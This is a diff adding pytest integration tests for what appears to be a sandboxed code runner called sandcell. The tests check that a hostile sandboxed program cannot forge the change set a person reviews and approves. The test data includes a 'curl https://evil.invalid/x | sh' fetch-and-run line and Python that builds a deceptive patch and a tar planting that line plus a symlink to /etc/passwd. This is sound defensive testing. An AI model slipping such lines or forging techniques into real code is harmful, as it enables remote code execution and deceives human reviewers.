@@ -1,0 +1,140 @@
+"""The patch workflow against a hostile program: what a person reviews, what is hashed for
+approval and what is applied come from sandcell's own computation on the host, never from files
+the sandboxed program wrote (issue 21)."""
+
+from __future__ import annotations
+
+import shutil
+from pathlib import Path
+
+import pytest
+from tests.integration.test_changes import BUGGY, _apply, repo, run, stores  # noqa: F401
+
+from sandcell.changes.approvals import ChangeApprovals
+from sandcell.changes.record import load
+from sandcell.errors import ConfigError
+from sandcell.executor import Executor
+from sandcell.spec import RunRequest
+
+FORGED = {"changes.json", "changes.patch", "changes.tar", "workdir.manifest.json"}
+EVIL = "curl https://evil.invalid/x | sh\n"
+
+# The program forges a whole change set in sandcell's own format: a patch showing a harmless
+# one-word fix, and a changes.json, changes.tar and manifest that really write EVIL into calc.py
+# and link /etc/passwd into the repository. It computes the manifest of the tree it was given
+# (which is what the host's target holds), so every hash the loader cross-checks agrees.
+FORGE = r"""
+import hashlib, io, json, os, stat, sys, tarfile
+
+FORGED = {"changes.json", "changes.patch", "changes.tar", "workdir.manifest.json"}
+
+def state():
+    out = {}
+    def rec(d, rel):
+        for e in sorted(os.scandir(d), key=lambda e: e.name):
+            r = rel + e.name
+            if not rel and (e.name == ".git" or e.name in FORGED or e.name.startswith(".sandcell")):
+                continue
+            st = e.stat(follow_symlinks=False)
+            if stat.S_ISLNK(st.st_mode):
+                if not rel and os.readlink(e.path).startswith("/inputs/"):
+                    continue
+                out[r] = {"kind": "symlink", "mode": 0, "target": os.readlink(e.path)}
+            elif stat.S_ISDIR(st.st_mode):
+                out[r] = {"kind": "dir", "mode": stat.S_IMODE(st.st_mode)}
+                rec(e.path, r + "/")
+            else:
+                data = open(e.path, "rb").read()
+                out[r] = {"kind": "file", "mode": stat.S_IMODE(st.st_mode),
+                          "sha256": hashlib.sha256(data).hexdigest(), "size": len(data)}
+    rec(".", "")
+    return out
+
+def canon(o):
+    return json.dumps(o, sort_keys=True, separators=(",", ":")).encode()
+
+entries = state()
+manifest = canon({"version": 1, "entries": entries, "git_entries": 0, "total_bytes": 0})
+evil = open("calc.py", "rb").read() + EVIL.encode()
+buf = io.BytesIO()
+with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
+    info = tarfile.TarInfo("files/calc.py"); info.size = len(evil); info.mode = 0o644
+    tar.addfile(info, io.BytesIO(evil))
+    link = tarfile.TarInfo("files/passwd"); link.type = tarfile.SYMTYPE
+    link.linkname = "/etc/passwd"
+    tar.addfile(link)
+contents = buf.getvalue()
+patch = b"diff --git a/calc.py b/calc.py\n-# teh\n+# the\n"
+sha = lambda b: hashlib.sha256(b).hexdigest()
+body = {
+    "version": 1, "source": "repo", "findings": [],
+    "base_manifest_sha256": sha(canon(entries)),
+    "manifest_artifact_sha256": sha(manifest),
+    "patch_sha256": sha(patch), "contents_sha256": sha(contents),
+    "changes": [
+        {"path": "calc.py", "action": "modify", "old_path": None, "binary": False, "flags": [],
+         "applicable": True, "old": entries["calc.py"],
+         "new": {"kind": "file", "mode": 0o644, "sha256": sha(evil), "size": len(evil)}},
+        {"path": "passwd", "action": "add", "old_path": None, "binary": False, "flags": [],
+         "applicable": True, "old": None,
+         "new": {"kind": "symlink", "mode": 0, "target": "/etc/passwd"}},
+    ],
+}
+for name, data in (("changes.json", json.dumps(body).encode()), ("changes.patch", patch),
+                   ("changes.tar", contents), ("workdir.manifest.json", manifest)):
+    open(name, "wb").write(data)
+if BREAK:
+    # sandcell's own recording writes .sandcell-changes.tar.part, then renames it: a directory
+    # in its way makes it fail, and the forged files were the only change set left.
+    os.mkdir(".sandcell-changes.tar.part")
+"""
+
+
+def _forge(ex: Executor, repo: Path, *, break_recording: bool) -> str:  # noqa: F811
+    code = f"EVIL = {EVIL!r}\nBREAK = {break_recording!r}\n" + FORGE
+    request = RunRequest(code=code, language="python", exports=("*",))
+    from sandcell.changes.run import run_in_workdir
+
+    result = run_in_workdir(ex, request, repo)
+    assert result.exit_code == 0, result.stderr
+    names = {r.path for r in result.rejected_exports}
+    assert {"changes.json", "changes.tar", "workdir.manifest.json"} <= names, (
+        result.rejected_exports
+    )
+    return result.run_id
+
+
+@pytest.mark.parametrize("break_recording", [True, False], ids=["recording-broken", "alongside"])
+def test_a_program_cannot_forge_the_change_set(
+    executor: Executor,
+    repo: Path,  # noqa: F811
+    stores: ChangeApprovals,  # noqa: F811
+    tmp_path: Path,
+    break_recording: bool,
+) -> None:
+    run_id = _forge(executor, repo, break_recording=break_recording)
+    target = tmp_path / "target"
+    shutil.copytree(repo, target, symlinks=True)
+    if break_recording:
+        # sandcell could not record the changes: there is no change set, and the forged one is
+        # not taken in its place.
+        with pytest.raises(ConfigError, match="no change set"):
+            load(executor.audit, executor.store, run_id)
+    else:
+        rec = load(executor.audit, executor.store, run_id)
+        # sandcell's own change set: the program wrote four new files, and nothing else.
+        assert {c.path for c in rec.changes} == FORGED
+        assert {c.action for c in rec.changes} == {"add"}
+    assert (target / "calc.py").read_text() == BUGGY
+    assert not (target / "passwd").is_symlink()
+
+
+def test_a_record_without_sandcells_own_change_set_is_refused(executor: Executor) -> None:
+    # A plain run (no --workdir-from) that exports files under the change set's names: the
+    # loader finds no change set of sandcell's in the record and refuses it.
+    names = "changes.json changes.patch changes.tar workdir.manifest.json"
+    code = f"for n in {names}; do echo {{}} > $n; done"
+    result = executor.run(RunRequest(code=code, language="bash", exports=("*",)))
+    assert {a.path for a in result.artifacts} >= {"changes.json", "changes.tar"}
+    with pytest.raises(ConfigError, match="no change set"):
+        load(executor.audit, executor.store, result.run_id)
